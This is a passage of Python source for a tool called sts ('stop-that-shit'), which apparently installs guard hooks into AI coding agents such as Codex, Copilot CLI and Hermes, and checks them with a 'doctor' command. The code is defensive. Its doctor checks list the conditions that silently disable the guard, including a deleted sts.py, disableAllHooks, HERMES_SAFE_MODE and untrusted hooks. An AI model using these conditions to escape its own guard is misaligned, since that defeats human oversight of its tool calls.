        "gemini asks (or list it in ~/.gemini/trustedFolders.json; GEMINI_CLI_TRUST_WORKSPACE=true "
        "for a headless run). On first start it warns once that the project has hooks.",),
    ("qwen", "project"): (
        "Qwen Code reads %(base)s only in a trusted folder when folder trust is on: trust "
        "%(root)s when qwen asks.",),
    ("copilot", "project"): (
        "Copilot CLI runs the hooks in %(base)s/hooks only in a trusted folder: trust %(root)s when copilot "
        "asks, or start it with --trust-folder.",),
}


def _copilot_commands(python: str, sts_path: Optional[str] = None) -> Dict[str, str]:
    base = hook_command("copilot", python, sts_path)
    return {event: "%s %s" % (base, event) for event, _ in _COPILOT_EVENTS}


def _copilot_hooks_text(python: str) -> str:
    commands = _copilot_commands(python)
    hooks = {event: [{"type": "command", "bash": commands[event], "timeoutSec": timeout}]
             for event, timeout in _COPILOT_EVENTS}
    return json.dumps({"version": 1, "hooks": hooks}, indent=2, ensure_ascii=False) + "\n"


def _copilot_file_is_ours(raw: Optional[bytes]) -> bool:
    """A hook file install wrote: every command runs an sts hook for copilot."""
    try:
        data = json.loads((raw or b"").decode("utf-8"))
    except (UnicodeDecodeError, ValueError):
        return False
    hooks = data.get("hooks") if isinstance(data, dict) else None
    if not isinstance(hooks, dict) or not hooks:
        return False
    entries = [e for group in hooks.values() if isinstance(group, list) for e in group]
    return bool(entries) and all(
        isinstance(e, dict) and isinstance(e.get("bash"), str)
        and "sts.main()" in e["bash"] and " copilot " in e["bash"] for e in entries)


def _copilot_hook_path(base: str) -> str:
    return os.path.join(base, "hooks", _COPILOT_HOOK_FILE)


def _plan_copilot_hooks(plan: _Plan, base: str, python: str, prior: Dict[str, dict]) -> None:
    dest = _copilot_hook_path(base)
    new = _copilot_hooks_text(python).encode("utf-8")
    old = _install_read(dest)
    if old is not None and old != new and not _copilot_file_is_ours(old):
        raise InstallError("%s exists and is not an sts hook file; move it away and run "
                           "install again." % dest)
    _change(plan, dest, old, new)
    rec = dict(prior.get(dest) or {"type": "file", "created_file": old is None})
    rec["sha256"] = _sha(new)
    plan.files[dest] = rec


def _codex_trust_note() -> str:
    me = "python3 " + _sh_quote(_sts_path())
    return ("Codex runs only hooks you trust, and skips untrusted ones without a word. sts does "
            "not trust them silently, because trust is Codex's consent step for code it will "
            "run. To trust exactly the sts hooks, run `%s install codex --trust`: it asks `codex "
            "app-server` to list the hooks and marks only the sts ones as trusted, with the hash "
            "Codex itself computes. Or start `codex` and approve them when it asks. Re-trust "
            "after every install that changes the command; `%s doctor` says when." % (me, me))


def _plan_codex_features(plan: _Plan, toml: str, prior: Dict[str, dict]) -> None:
    raw = _install_read(toml)
    text = _text(toml, raw)
    try:
        new, added_header = _toml_enable_hooks(toml, text)
    except _Manual as why:
        plan.manual.append("Codex needs hooks enabled, and sts will not edit %s itself (%s). "
                           "Add these lines to it:\n  [features]\n  %s" % (toml, why, _TOML_LINE))
        return
    if new != text or toml in prior:
        _change(plan, toml, raw, new.encode("utf-8"))
        plan.files[toml] = prior.get(toml) or {"type": "toml-features",
                                               "created_file": raw is None,
                                               "added_header": added_header,
                                               "no_final_newline": _no_final_newline(raw)}


def _plan_opencode_seed(plan: _Plan, base: str, prior: Dict[str, dict]) -> None:
    """OpenCode npm-installs @opencode-ai/plugin before loading plugins (~70 s of retries
    offline) unless node_modules/ exists and package-lock.json lists it.
    sts seeds both only into a folder that has none of them, so it never edits npm's files."""
    pkg, lock, mods = (os.path.join(base, n) for n in ("package.json", "package-lock.json",
                                                      "node_modules"))
    seed = os.path.join(mods, ".sts-seed")
    if any(p in prior for p in (pkg, lock, seed)):
        for p in (pkg, lock, seed):
            if p in prior:
                plan.files[p] = prior[p]
        return
    lock_raw = _install_read(lock)
    if lock_raw is not None and _OPENCODE_PLUGIN_PKG.encode() in lock_raw and os.path.isdir(mods):
        return
    if lock_raw is not None or _install_read(pkg) is not None or os.path.exists(mods):
        plan.notes.append("OpenCode will npm-install %s into %s on its first start (it needs the "
                          "network once); sts leaves an existing package.json, package-lock.json "
                          "or node_modules/ alone." % (_OPENCODE_PLUGIN_PKG, base))
        return
    deps = {_OPENCODE_PLUGIN_PKG: _OPENCODE_PLUGIN_VERSION}
    files = {pkg: {"dependencies": deps},
             lock: {"lockfileVersion": 3, "packages": {"": {"dependencies": deps}}},
             seed: None}
    for path, obj in files.items():
        data = (json.dumps(obj, indent=2) + "\n").encode() if obj is not None else \
            b"Created by sts install so that OpenCode does not npm-install at start.\n"
        _change(plan, path, None, data)
        plan.files[path] = {"type": "file", "created_file": True, "sha256": _sha(data)}


def _plan_hermes_enable(plan: _Plan, cfg: str, prior: Dict[str, dict]) -> None:
    raw = _install_read(cfg)
    text = _text(cfg, raw)
    try:
        new, what = _yaml_enable(text)
    except _Manual as why:
        plan.manual.append("Hermes loads plugins only when enabled, and sts will not edit %s "
                           "itself (%s). Add stop-that-shit to plugins.enabled, for example:\n%s\n"
                           "(or run `hermes plugins enable stop-that-shit`)"
                           % (cfg, why, _indent(_yaml_enable_lines())))
        return
    if what:
        _change(plan, cfg, raw, new.encode("utf-8"))
        plan.files[cfg] = {"type": "yaml-enable", "created_file": raw is None, "what": what,
                           "no_final_newline": _no_final_newline(raw)}
    elif cfg in prior:
        plan.files[cfg] = prior[cfg]


def _no_final_newline(raw: Optional[bytes]) -> bool:
    """Appending needs a final newline; uninstall takes it away again if sts added it."""
    return bool(raw) and not raw.endswith(b"\n")


def _indent(text: str) -> str:
    return "\n".join("  " + ln for ln in text.split("\n"))


def _plan_uninstall(host: str, scope: str, python: str, entry: dict) -> _Plan:
    base = _base_dir(host, scope)
    plan = _Plan(host, scope, base)
    files = dict(entry.get("files") or {})
    commands = list(entry.get("commands") or []) + [hook_command(host, python)]
    if host in _HOOK_EVENTS:  # without a record, still take out groups running this sts.py
        files.setdefault(os.path.join(base, _HOSTS[host]["config"]),
                         {"type": "hooks-json", "created_file": False, "created": []})
    for src, dst in _SHIM_FILES.get(host, ()):
        dest = os.path.join(base, *dst.split("/"))
        if dest not in files and _shim_pinned_to(dest) == _sts_path():
            files[dest] = {"type": "file", "created_file": True, "sha256": None}
    if host == "copilot":
        dest = _copilot_hook_path(base)
        if dest not in files and _install_read(dest) == _copilot_hooks_text(python).encode():
            files[dest] = {"type": "file", "created_file": True, "sha256": None}
    for path, rec in files.items():
        raw = _install_read(path)
        if raw is None:
            continue
        kind = rec.get("type")
        if kind == "file":
            if rec.get("sha256") in (None, _sha(raw)):
                _change(plan, path, raw, None)
            else:
                plan.notes.append("%s was changed since install; it was left in place." % path)
            continue
        text = _text(path, raw)
        try:
            if kind == "hooks-json":
                new = _unmerge_hooks_json(path, text, commands, rec.get("created", []))
                empty = not new.strip() or json.loads(new) == {}
            elif kind == "toml-features":
                new = _toml_disable_hooks(path, text, bool(rec.get("added_header")))
                empty = not new.strip()
            elif kind == "yaml-enable":
                new = _yaml_disable(text, rec.get("what", ""))
                empty = not new.strip()
            else:
                continue
        except _Manual as why:
            plan.notes.append("%s: sts could not take its lines out (%s); remove them by hand."
                              % (path, why))
            continue
        if rec.get("no_final_newline") and new.endswith("\n") and kind != "hooks-json":
            new = new[:-1]
        if empty and "blank" in rec:
            new = rec["blank"]
        _change(plan, path, raw, None if rec.get("created_file") and empty else new.encode())
    plan.dirs = list(entry.get("dirs") or [])
    return plan


# ---- applying ---------------------------------------------------------------


def _diff(ch: _Change) -> str:
    import difflib
    old = (ch.old or b"").decode("utf-8", "replace").splitlines(True)
    new = (ch.new or b"").decode("utf-8", "replace").splitlines(True)
    lines = difflib.unified_diff(old, new, ch.path if ch.old is not None else "/dev/null",
                                 ch.path if ch.new is not None else "/dev/null")
    return "".join(ln if ln.endswith("\n") else ln + "\n\\ No newline at end of file\n"
                   for ln in lines)


def _nearest_dir(path: str) -> str:
    d = os.path.dirname(path)
    while d and not os.path.isdir(d):
        up = os.path.dirname(d)
        if up == d:
            break
        d = up
    return d


def _backup(path: str, data: bytes) -> str:
    import time
    stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    target = "%s.sts-backup-%s" % (path, stamp)
    n = 1
    while os.path.exists(target):
        target = "%s.sts-backup-%s-%d" % (path, stamp, n)
        n += 1
    with open(target, "xb") as fh:
        fh.write(data)
    return target


def _atomic_write(path: str, data: bytes) -> None:
    """A host's config replaced whole (_replace_file), keeping its mode; a
    symlinked config keeps its link and the file it points to is replaced."""
    _replace_file(os.path.realpath(path), data, mode=None)


def _check_writable(paths: List[str]) -> None:
    for p in paths:
        d = _nearest_dir(p)
        if not os.access(d, os.W_OK | os.X_OK):
            raise InstallError("cannot write %s: the folder %s is read-only. Nothing was changed."
                               % (p, d))


def _apply(plan: _Plan, out: Any) -> List[str]:
    """Write the plan: backups of changed files first, then atomic replaces."""
    _check_writable([ch.path for ch in plan.changes] + [_installed_json()])
    done: List[str] = []
    for d in plan.dirs:
        try:
            os.makedirs(d, exist_ok=True)
        except OSError as exc:
            raise InstallError("cannot create the folder %s: %s" % (d, exc.strerror or exc))
    for ch in plan.changes:
        try:
            # Deletions only ever remove files sts created itself; edits of a
            # file that holds anything of the user's keep a copy beside it.
            if ch.old is not None and ch.new is not None:
                out.write("backup  %s\n" % _backup(ch.path, ch.old))
            if ch.new is None:
                os.unlink(ch.path)
                out.write("removed %s\n" % ch.path)
            else:
                _atomic_write(ch.path, ch.new)
                out.write("%s %s\n" % ("updated" if ch.old is not None else "created", ch.path))
        except OSError as exc:
            raise InstallError("cannot write %s: %s (files listed above were already "
                               "changed)" % (ch.path, exc.strerror or exc))
        done.append(ch.path)
    return done


# ---- installed.json ---------------------------------------------------------
#
# The self-protection check protects every path listed under "paths".  "installs" keeps, per host, scope and folder, what install did, so
# that uninstall can take away exactly that.


def _installed_json() -> str:
    return os.path.join(data_dir(), "installed.json")


def _load_installed() -> dict:
    try:
        with open(_installed_json(), encoding="utf-8") as fh:
            data = json.load(fh)
    except (OSError, ValueError):
        return {"version": 1, "paths": [], "installs": {}}
    if not isinstance(data, dict) or not isinstance(data.get("installs"), dict):
        return {"version": 1, "paths": [], "installs": {}}
    return data


def _save_installed(data: dict) -> None:
    paths = set()
    for entry in data["installs"].values():
        paths.update(entry.get("files", {}))
    data["paths"] = sorted(paths)
    os.makedirs(data_dir(), mode=0o700, exist_ok=True)
    _atomic_write(_installed_json(),
                  (json.dumps(data, indent=2, ensure_ascii=False) + "\n").encode("utf-8"))


def _entry_key(host: str, scope: str, base: str) -> str:
    return "%s:%s:%s" % (host, scope, base)


# ---- Codex trust ------------------------------------------------------------


class _AppServer:
    """A minimal JSON-RPC client for `codex app-server` over stdio (host kit codex_trust.py)."""

    def __init__(self, codex: str, cwd: str, timeout: float = 30.0) -> None:
        import subprocess
        import time
        self.deadline = time.monotonic() + timeout
        self.proc = subprocess.Popen([codex, "app-server"], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=cwd)
        self.buf = b""
        self.nid = 0
        self.call("initialize", {"clientInfo": {"name": "sts", "title": None, "version": VERSION},
                                 "capabilities": {"experimentalApi": True}})
        self._send({"method": "initialized"})

    def _send(self, msg: dict) -> None:
        self.proc.stdin.write((json.dumps(msg) + "\n").encode("utf-8"))
        self.proc.stdin.flush()

    def _line(self) -> bytes:
        import select
        import time
        while b"\n" not in self.buf:
            left = self.deadline - time.monotonic()
            if left <= 0 or not select.select([self.proc.stdout], [], [], left)[0]:
                raise InstallError("codex app-server did not answer in time")
            chunk = os.read(self.proc.stdout.fileno(), 65536)
            if not chunk:
                raise InstallError("codex app-server stopped")
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b"\n")
        return line

    def call(self, method: str, params: dict) -> Any:
        self.nid += 1
        self._send({"id": self.nid, "method": method, "params": params})
        while True:
            try:
                msg = json.loads(self._line())
            except ValueError:
                continue
            if isinstance(msg, dict) and msg.get("id") == self.nid and "method" not in msg:
                if "error" in msg:
                    raise InstallError("codex app-server %s failed: %s" % (method, msg["error"]))
                return msg.get("result")

    def close(self) -> None:
        try:
            self.proc.stdin.close()
        except OSError:
            pass
        self.proc.terminate()
        try:
            self.proc.wait(5)
        except Exception:
            self.proc.kill()


def _codex_bin() -> Optional[str]:
    import shutil
    return os.environ.get("CODEX_BIN") or shutil.which("codex")


def _codex_trust(hooks_path: str, command: str, cwd: str, write: bool) -> List[dict]:
    """Our hooks as Codex lists them; with write, first trust the untrusted ones.

    Only hooks from our hooks file that run exactly our command are touched, and
    the hash written is the one Codex reports (never computed here)."""
    codex = _codex_bin()
    if not codex:
        raise InstallError("codex is not on PATH (set CODEX_BIN to its path)")
    prefixes = {os.path.abspath(hooks_path) + ":", os.path.realpath(hooks_path) + ":"}

    def ours(server: _AppServer) -> List[dict]:
        res = server.call("hooks/list", {"cwds": [cwd]}) or {}
        hooks = [h for e in res.get("data", []) for h in e.get("hooks", [])]
        return [h for h in hooks if h.get("command") == command
                and any(str(h.get("key", "")).startswith(p) for p in prefixes)]
    try:
        server = _AppServer(codex, cwd)
    except OSError as exc:
        raise InstallError("cannot start %s app-server: %s" % (codex, exc.strerror or exc))
    try:
        found = ours(server)
        if write:
            for h in found:
                if h.get("trustStatus") != "trusted" and not h.get("isManaged"):
                    server.call("config/value/write", {
                        "keyPath": 'hooks.state."%s"' % h["key"],
                        "value": {"enabled": True, "trusted_hash": h["currentHash"]},
                        "mergeStrategy": "replace"})
            found = ours(server)
        return found
    finally:
        server.close()


# ---- commands ---------------------------------------------------------------


def _parse(args: List[str], flags: Dict[str, bool]) -> Tuple[Optional[str], Dict[str, Any]]:
    """Tiny option parser: flags maps --name to True (takes a value) or False (switch)."""
    opts: Dict[str, Any] = {"--scope": "user", "--python": "python3"}
    host = None
    it = iter(args)
    for a in it:
        name, eq, val = a.partition("=")
        if name in flags:
            if flags[name]:
                if not eq:
                    val = next(it, None)
                    if val is None:
                        raise InstallError("%s needs a value" % name)
                opts[name] = val
            else:
                opts[name] = True
        elif a.startswith("-"):
            raise InstallError("unknown option %s" % a)
        elif host is None:
            host = a
        else:
            raise InstallError("one host at a time (got %s and %s)" % (host, a))
    if opts["--scope"] not in ("user", "project"):
        raise InstallError("--scope is user or project, not %s" % opts["--scope"])
    return host, opts


def _host_arg(host: Optional[str], verb: str) -> str:
    if host not in _HOSTS:
        raise InstallError("usage: python3 sts.py %s <%s> [--scope user|project] [--dry-run]"
                           % (verb, "|".join(_HOSTS)))
    return host


def _report(plan: _Plan, dry: bool, out: Any) -> None:
    if dry:
        for ch in plan.changes:
            out.write(_diff(ch))
        if not plan.changes:
            out.write("sts: nothing to change.\n")
        else:
            out.write("sts: dry run; nothing was written.\n")


def cmd_install(args: List[str]) -> int:
    """python3 sts.py install <host> [--scope user|project] [--dry-run] [--trust] [--python PY]"""
    out = sys.stdout
    try:
        host, opts = _parse(args, {"--scope": True, "--python": True, "--dry-run": False,
                                   "--trust": False})
        host = _host_arg(host, "install")
        if opts.get("--trust") and host != "codex":
            raise InstallError("--trust is for codex only; %s has no hook trust step" % host)
        scope, python, dry = opts["--scope"], opts["--python"], bool(opts.get("--dry-run"))
        installed = _load_installed()
        base = _base_dir(host, scope)
        key = _entry_key(host, scope, base)
        entry = installed["installs"].get(key, {})
        plan = _plan_install(host, scope, python, entry)
        _report(plan, dry, out)
        if not dry:
            _apply(plan, out)
            command = hook_command(host, python)
            commands = [c for c in entry.get("commands", []) if c != command] + [command]
            old_dirs = [d for d in entry.get("dirs", []) if d not in plan.dirs]
            installed["installs"][key] = {
                "host": host, "scope": scope, "base": base, "python": python,
                "sts": _sts_path(), "commands": commands[-4:],
                "files": plan.files, "dirs": old_dirs + plan.dirs}
            _save_installed(installed)
            if not plan.changes:
                out.write("sts: %s is already installed; nothing changed.\n" % host)
            else:
                out.write("sts: installed for %s (%s scope).\n" % (host, scope))
        for note in plan.notes:
            out.write("note: %s\n" % note)
        if host == "codex" and not opts.get("--trust"):
            out.write("note: %s\n" % _codex_trust_note())
        if host == "codex" and opts.get("--trust") and not dry:
            _install_trust(plan, hook_command(host, python), out)
        for m in plan.manual:
            out.write("ACTION NEEDED: %s\n" % m)
        return 1 if plan.manual else 0
    except InstallError as exc:
        sys.stderr.write("sts: %s\n" % exc)
        return 2


def _install_trust(plan: _Plan, command: str, out: Any) -> None:
    cwd = _project_root() if plan.scope == "project" else os.getcwd()
    hooks = os.path.join(plan.base, "hooks.json")
    try:
        found = _codex_trust(hooks, command, cwd, write=True)
    except InstallError as exc:
        plan.manual.append("Codex hook trust was not set: %s. Approve the sts hooks in `codex`, "
                           "or run install --trust again." % exc)
        return
    bad = [h for h in found if h.get("trustStatus") != "trusted"]
    for h in found:
        out.write("trust   %-16s %s\n" % (h.get("eventName", "?"), h.get("trustStatus")))
    if not found or bad:
        plan.manual.append("Codex does not list every sts hook as trusted (%d found, %d not "
                           "trusted); approve them in `codex`." % (len(found), len(bad)))


def cmd_uninstall(args: List[str]) -> int:
    """python3 sts.py uninstall <host> [--scope user|project] [--dry-run]"""
    out = sys.stdout
    try:
        host, opts = _parse(args, {"--scope": True, "--python": True, "--dry-run": False})
        host = _host_arg(host, "uninstall")
        scope, dry = opts["--scope"], bool(opts.get("--dry-run"))
        installed = _load_installed()
        base = _base_dir(host, scope)
        key = _entry_key(host, scope, base)
        entry = installed["installs"].get(key, {})
        plan = _plan_uninstall(host, scope, entry.get("python", opts["--python"]), entry)
        _report(plan, dry, out)
        if not dry:
            _apply(plan, out)
            for d in reversed(plan.dirs):  # folders install created, if now empty
                try:
                    os.rmdir(d)
                    out.write("removed %s/\n" % d)
                except OSError:
                    pass
            if key in installed["installs"]:
                del installed["installs"][key]
                _save_installed(installed)
            out.write("sts: %s\n" % ("uninstalled from %s." % host if plan.changes
                                     else "nothing of sts was found for %s." % host))
        for note in plan.notes:
            out.write("note: %s\n" % note)
        if host == "codex" and not dry:
            out.write("note: trust entries Codex stored in config.toml are bound to the hash of "
                      "the removed command, so they no longer grant anything; sts leaves "
                      "Codex's own file alone.\n")
        return 0
    except InstallError as exc:
        sys.stderr.write("sts: %s\n" % exc)
        return 2


# ---- doctor -----------------------------------------------------------------


def _probe(host: str, command: str) -> Tuple[bool, str]:
    """Run the installed command the way the host does, with a harmless event, against
    a throwaway STS_HOME: it must exit 0 and print nothing or one JSON object."""
    import shlex
    import subprocess
    import tempfile
    with tempfile.TemporaryDirectory(prefix="sts-doctor-") as tmp:
        env = dict(os.environ, STS_HOME=os.path.join(tmp, "state"))
        event = _PROBE_EVENTS[host]("sts-doctor-" + os.urandom(6).hex(), tmp)
        # The command-hook hosts hand the command to a shell; Hermes and the shims split it.
        shell = host in _HOOK_EVENTS or host == "copilot"
        argv = ["/bin/sh", "-c", command] if shell else shlex.split(command)
        try:
            p = subprocess.run(argv, input=json.dumps(event).encode("utf-8"), cwd=tmp, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=10)
        except FileNotFoundError:
            return False, "cannot start %s" % argv[0]
        except subprocess.TimeoutExpired:
            return False, "no answer within 10 s"
    err = p.stderr.decode("utf-8", "replace").strip().splitlines()
    if p.returncode != 0:
        return False, "exited %d%s" % (p.returncode, (": " + err[-1]) if err else "")
    out = p.stdout.strip()
    if not out and host in _SILENT_OK:
        return True, "a harmless test event ran cleanly"
    try:
        if isinstance(json.loads(out), dict):
            return True, "a test event ran cleanly"
    except ValueError:
        pass
    return False, "printed %s instead of one JSON object" % ("nothing" if not out else "text")


def _age(seconds: float) -> str:
    for unit, size in (("d", 86400), ("h", 3600), ("min", 60)):
        if seconds >= size:
            return "%d %s" % (seconds // size, unit)
    return "%d s" % seconds


# What happens on a host whose hook command names an sts.py that is gone.
_GUARD_GONE = {
    "shim": "the shim blocks tool calls while a session is armed and lets everything else "
            "run unguarded",
    "hook": "the hook cannot start, and a hook that cannot start does not block: every tool "
            "call runs without the guard",
}


def _command_sts_path(command: str) -> Optional[str]:
    """The sts.py a hook command runs: the folder its import form puts on
    sys.path, or an sts.py it names; None when it names neither."""
    import ast
    import shlex
    try:
        argv = shlex.split(command)
    except ValueError:
        return None
    for index, word in enumerate(argv):
        if word == "-c" and index + 1 < len(argv):
            try:
                tree = ast.parse(argv[index + 1])
            except SyntaxError:
                return None
            for node in ast.walk(tree):
                if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "insert" \
                        and len(node.args) == 2 and isinstance(node.args[1], ast.Constant) \
                        and isinstance(node.args[1].value, str):
                    return os.path.join(node.args[1].value, "sts.py")
        if word.endswith("sts.py"):
            return word
    return None


def _missing_sts_refs(path: str) -> List[str]:
    """Each sts.py the hook commands of a host's JSON configuration run that
    does not exist."""
    try:
        with open(path, encoding="utf-8") as fh:
            data = json.load(fh)
    except (OSError, ValueError):
        return []
    found: List[str] = []

    def visit(value: Any) -> None:
        if isinstance(value, dict):
            for item in value.values():
                visit(item)
        elif isinstance(value, list):
            for item in value:
                visit(item)
        elif isinstance(value, str) and ("import sts" in value or "sts.py" in value):
            target = _command_sts_path(value)
            if target and not os.path.isfile(target) and target not in found:
                found.append(target)

    visit(data)
    return found


def _doctor_host(host: str, entries: List[dict], check: Callable[..., None]) -> None:
    python = entries[0].get("python", "python3") if entries else "python3"
    command = hook_command(host, python)
    fix = "python3 %s install %s" % (_sh_quote(_sts_path()), host)
    scopes = [(e.get("scope", "user"), e.get("base")) for e in entries] or \
             [("user", _base_dir(host, "user"))]
    for scope, base in scopes:
        fix_s = fix + (" --scope project" if scope == "project" else "")
        if host in _HOOK_EVENTS:
            cfg = os.path.join(base, _HOSTS[host]["config"])
            for gone in _missing_sts_refs(cfg):
                check("FAIL", host, "GUARD MISSING: %s runs %s, which does not exist; %s"
                      % (cfg, gone, _GUARD_GONE["hook"]), fix_s)
            ok, text = _json_hooks_wired(cfg, host, command)
            check("OK" if ok else "FAIL", host, "wired: " + text, None if ok else fix_s)
        for _, dst in _SHIM_FILES.get(host, ()):
            dest = os.path.join(base, *dst.split("/"))
            if not dst.endswith((".js", ".py")):
                ok = os.path.isfile(dest)
                check("OK" if ok else "FAIL", host, "%s %s" % (dest, "present" if ok else
                                                               "is missing"), None if ok else fix_s)
                continue
            pinned = _shim_pinned_to(dest)
            if pinned and not os.path.isfile(pinned):
                check("FAIL", host, "GUARD MISSING: shim %s runs %s, which does not exist; %s"
                      % (dest, pinned, _GUARD_GONE["shim"]), fix_s)
            elif pinned == _sts_path():
                check("OK", host, "shim %s points at this sts.py" % dest)
            elif pinned:
                check("FAIL", host, "shim %s points at %s, not this sts.py" % (dest, pinned), fix_s)
            else:
                check("FAIL", host, "shim %s is missing or not an sts shim" % dest, fix_s)
        if host == "codex":
            _doctor_codex(base, scope, command, fix_s, check)
        if host == "copilot":
            _doctor_copilot(base, python, fix_s, check)
    if host == "copilot":
        command = _copilot_commands(python)["sessionStart"]
    if host == "hermes":
        _doctor_hermes(fix, check)
    ok, text = _probe(host, command)
    check("OK" if ok else "FAIL", host, "command works: " + text if ok else
          "the hook command failed: %s" % text,
          None if ok else "run it by hand: echo '{}' | %s" % command)


def _doctor_codex(base: str, scope: str, command: str, fix: str,
                  check: Callable[..., None]) -> None:
    user_toml = os.path.join(_HOSTS["codex"]["user"](), "config.toml")
    tomls = [os.path.join(base, "config.toml")] + ([user_toml] if scope == "project" else [])
    states = [_toml_hooks_enabled(t) for t in tomls]
    if any(states):
        check("OK", "codex", "hooks are enabled ([features] hooks = true)")
    else:
        check("WARN", "codex", "%s does not set [features] hooks = true" % tomls[0],
              "add `[features]` and `hooks = true` to it, or run: " + fix)
    if scope == "project":
        root = os.path.dirname(base)
        trusted = _codex_project_trusted(user_toml, root)
        if trusted:
            check("OK", "codex", "project %s is trusted, so Codex reads %s" % (root, base))
        else:
            check("FAIL" if trusted is False else "WARN", "codex",
                  "Codex reads %s only for a trusted project; %s does not trust %s"
                  % (base, user_toml, root),
                  "trust the project when codex asks, or add to %s:\n       [projects.%s]\n"
                  "       trust_level = \"trusted\"" % (user_toml, json.dumps(root, ensure_ascii=False)))
    if not _codex_bin():
        check("WARN", "codex", "cannot check hook trust: codex is not on PATH",
              "approve the sts hooks in codex, or put codex on PATH and run: %s --trust" % fix)
        return
    cwd = _project_root() if scope == "project" else os.getcwd()
    try:
        found = _codex_trust(os.path.join(base, "hooks.json"), command, cwd, write=False)
    except InstallError as exc:
        check("WARN", "codex", "cannot check hook trust: %s" % exc, None)
        return
    bad = [h for h in found if h.get("trustStatus") != "trusted"]
    if not found:
        check("FAIL", "codex", "codex lists no sts hook for %s" % cwd, fix)
    elif not bad:
        check("OK", "codex", "all %d sts hooks are trusted" % len(found))
    else:
        check("FAIL", "codex", "%d of %d sts hooks are not trusted (Codex skips them silently)"
              % (len(bad), len(found)), fix + " --trust")


def _doctor_copilot(base: str, python: str, fix: str, check: Callable[..., None]) -> None:
    dest = _copilot_hook_path(base)
    raw = _install_read(dest)
    for gone in _missing_sts_refs(dest):
        check("FAIL", "copilot", "GUARD MISSING: %s runs %s, which does not exist; %s"
              % (dest, gone, _GUARD_GONE["hook"]), fix)
    if raw is None:
        check("FAIL", "copilot", "%s does not exist" % dest, fix)
    elif raw != _copilot_hooks_text(python).encode("utf-8"):
        check("FAIL", "copilot", "%s does not run this sts.py on every event" % dest, fix)
    else:
        check("OK", "copilot", "wired: %s runs sts on %d events" % (dest, len(_COPILOT_EVENTS)))
    settings = os.path.join(_HOSTS["copilot"]["user"](), "config.json")
    try:
        with open(settings, encoding="utf-8") as fh:
            disabled = json.load(fh).get("disableAllHooks") is True
    except (OSError, ValueError, AttributeError):
        disabled = False
    if disabled:
        check("FAIL", "copilot", "%s sets disableAllHooks, so no hook runs" % settings,
              "remove disableAllHooks from it")


def _codex_project_trusted(toml: str, root: str) -> Optional[bool]:
    """[projects."<root>"] trust_level = "trusted" in the user config.toml?  None: unknown."""
    import re
    try:
        with open(toml, encoding="utf-8") as fh:
            text = fh.read()
    except OSError:
        return False
    try:
        import tomllib  # type: ignore[import-not-found]
    except ImportError:  # 3.9/3.10: look for the two lines the notes print
        head = "[projects.%s]" % json.dumps(root, ensure_ascii=False)
        at = text.find(head)
        if at < 0:
            return None
        nxt = re.search(r"^\s*\[", text[at + len(head):], flags=re.M)
        table = text[at + len(head):at + len(head) + (nxt.start() if nxt else len(text))]
        return bool(re.search(r'^\s*trust_level\s*=\s*"trusted"', table, flags=re.M)) or None
    try:
        projects = tomllib.loads(text).get("projects") or {}
    except tomllib.TOMLDecodeError:
        return None
    entry = projects.get(root) if isinstance(projects, dict) else None
    return isinstance(entry, dict) and entry.get("trust_level") == "trusted"


def _doctor_hermes(fix: str, check: Callable[..., None]) -> None:
    import re
    cfg = os.path.join(_HOSTS["hermes"]["user"](), "config.yaml")
    try:
        with open(cfg, encoding="utf-8") as fh:
            text = fh.read()
    except (OSError, UnicodeDecodeError):
        check("FAIL", "hermes", "%s cannot be read, so the plugin is not enabled" % cfg, fix)
        return
    try:
        info = _yaml_plugins(text.split("\n"))
        enabled = any(n == _SHIM_NAME for _, n in info["items"])
        sure = True
    except _Manual:
        enabled = bool(re.search(r"^\s*-\s*%s\s*$|\[[^\]]*\b%s\b" % (_SHIM_NAME, _SHIM_NAME),
                                 text, flags=re.M))
        sure = False
    if enabled:
        check("OK" if sure else "WARN", "hermes", "plugins.enabled lists stop-that-shit" +
              ("" if sure else " (as far as sts can read %s)" % cfg))
    else:
        check("FAIL", "hermes", "%s does not enable the plugin" % cfg,
              "add to it:\n" + _indent(_yaml_enable_lines()))
    if "sts.py" in text or "import sts" in text:
        check("WARN", "hermes", "%s also seems to run sts as a native hook; the second "
              "evaluation of a call is denied as a duplicate" % cfg, "remove the native hook")
    if os.environ.get("HERMES_SAFE_MODE") == "1":
        check("WARN", "hermes", "HERMES_SAFE_MODE=1 disables plugins", "unset HERMES_SAFE_MODE")


def cmd_doctor(args: List[str]) -> int:
    """python3 sts.py doctor: one OK/WARN/FAIL line per check, with the fix."""
    import time
    out = sys.stdout
    worst = {"OK": 0, "WARN": 0, "FAIL": 0}

    def check(status: str, host: str, text: str, fix: Optional[str] = None) -> None:
        worst[status] += 1
        out.write("%-4s %-8s %s%s\n" % (status, host, text, ("\n     fix: " + fix) if fix else ""))

    installed = _load_installed()
    by_host: Dict[str, List[dict]] = {}
    for e in installed["installs"].values():
        if isinstance(e, dict) and e.get("host") in _HOSTS:
            by_host.setdefault(e["host"], []).append(e)
    wanted = [a for a in args if a in _HOSTS]
    hosts = wanted or [h for h in _HOSTS if h in by_host or os.path.isdir(_base_dir(h, "user"))]
    root = data_dir()
    try:
        import tempfile
        os.makedirs(root, mode=0o700, exist_ok=True)
        with tempfile.NamedTemporaryFile(dir=root, prefix=".doctor-"):
            pass
        check("OK", "sts", "state folder %s is writable" % root)
    except OSError as exc:
        check("FAIL", "sts", "state folder %s is not writable: %s" % (root, exc.strerror or exc),
              "make it writable, or set STS_HOME to a writable folder")
    if not hosts:
        check("WARN", "sts", "no host found (looked for %s)" % ", ".join(_HOSTS),
              "python3 sts.py install <host>")
    for host in hosts:
        _doctor_host(host, by_host.get(host, []), check)
        try:
            age = time.time() - os.stat(os.path.join(root, "hosts", host)).st_mtime
            check("OK", host, "last event %s ago" % _age(max(age, 0)))
        except OSError:
            check("WARN", host, "no event received yet", "start %s once; every event refreshes this" % host)
    out.write("%d OK, %d WARN, %d FAIL\n" % (worst["OK"], worst["WARN"], worst["FAIL"]))
    return 1 if worst["FAIL"] else 0


###############################################################################
# Inspection
#
# Owns the read side: status, runtime, explain and label, both as prompt
# commands (`$stop-that-shit status`, which never change the contract) and
# from the terminal (`python3 sts.py status`, exit 1 when nothing is found, 2
# on a usage error).  Only these read audit logs; a tool-call hook never does.
###############################################################################


_UNRESOLVED_ADVICE = ("Only a confirmed completion or a new host session clears this; "
                      "never reset the ledger by hand.")
